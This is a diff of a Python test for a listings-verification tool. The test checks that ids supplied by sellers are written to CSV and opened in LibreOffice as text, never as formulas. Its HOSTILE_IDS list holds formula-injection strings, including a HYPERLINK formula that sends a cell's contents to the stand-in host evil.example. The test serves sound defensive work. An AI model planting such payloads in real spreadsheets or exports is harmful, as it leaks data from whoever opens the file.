@@ -16,9 +16,11 @@ import time
 from pathlib import Path
 
 import builders
+import openpyxl
 import pytest
+from helpers import soffice_to_xlsx
 
-from registry.core import payload
+from registry.core import payload, spreadsheet
 
 ROOT = Path(__file__).resolve().parents[2]
 SITE_URL = "https://szzz.example.cn"
@@ -104,15 +106,30 @@ def test_bad_options_are_usage_errors_without_a_traceback(world, tmp_path):
     assert sorted(os.listdir(tmp_path)) == ["listings.csv"]
 
 
-def test_csv_output_by_suffix(world, tmp_path):
+HOSTILE_IDS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+1", "-2+3", "@SUM(A1)", "\tTAB",
+               "'quoted", "-12", "L-1", "＝1+1"]
+
+
+def test_csv_output_opens_in_libreoffice_without_a_formula(world, tmp_path):
+    """An --out ending in .csv is CSV for spreadsheets: ids sellers wrote come
+    through LibreOffice Calc as text, never as formulas (core.spreadsheet's
+    rule, as for the site's downloads), and every row is there in order."""
     batch_file = tmp_path / "listings.jsonl"
-    batch_file.write_text(json.dumps({"id": "=1+1", "url": world["url"]}) + "\n"
+    batch_file.write_text("".join(json.dumps({"id": i, "url": world["url"]}) + "\n" for i in HOSTILE_IDS)
                           + json.dumps({"id": 7, "cert_no": world["certs"]["suspended"]}) + "\n", encoding="utf-8")
-    done = szzz(world, "--batch", batch_file, "--out", tmp_path / "verdicts.csv")
+    out = tmp_path / "verdicts.csv"
+    done = szzz(world, "--batch", batch_file, "--out", out)
     assert done.returncode == 1, done.stderr
-    data = (tmp_path / "verdicts.csv").read_bytes()
-    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
-    assert [(r["row"], r["id"], r["verdict"]) for r in rows] == [("1", "'=1+1", "valid"), ("2", "7", "suspended")]
+    rows = list(csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8-sig"), newline="")))
+    expected_ids = [spreadsheet.safe_cell(i) for i in HOSTILE_IDS] + ["7"]
+    assert [(r["row"], r["id"], r["verdict"]) for r in rows] == [
+        (str(n), i, "valid") for n, i in enumerate(expected_ids[:-1], 1)] + [("10", "7", "suspended")]
+    assert expected_ids[:6] == ["'" + i for i in HOSTILE_IDS[:6]] and expected_ids[6:9] == HOSTILE_IDS[6:9]
+    sheet = openpyxl.load_workbook(soffice_to_xlsx([out], tmp_path)[0]).active
+    ids = [row[1] for row in sheet.iter_rows(min_row=2, max_col=2)]
+    assert [c.data_type for c in ids] == ["s"] * 6 + ["n", "s", "s", "n"]
+    assert [c.value for c in ids] == [*expected_ids[:6], -12, "L-1", "＝1+1", 7]
+    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
 
 
 def test_a_fifo_in_the_image_column_is_malformed_within_the_limit(world, tmp_path):
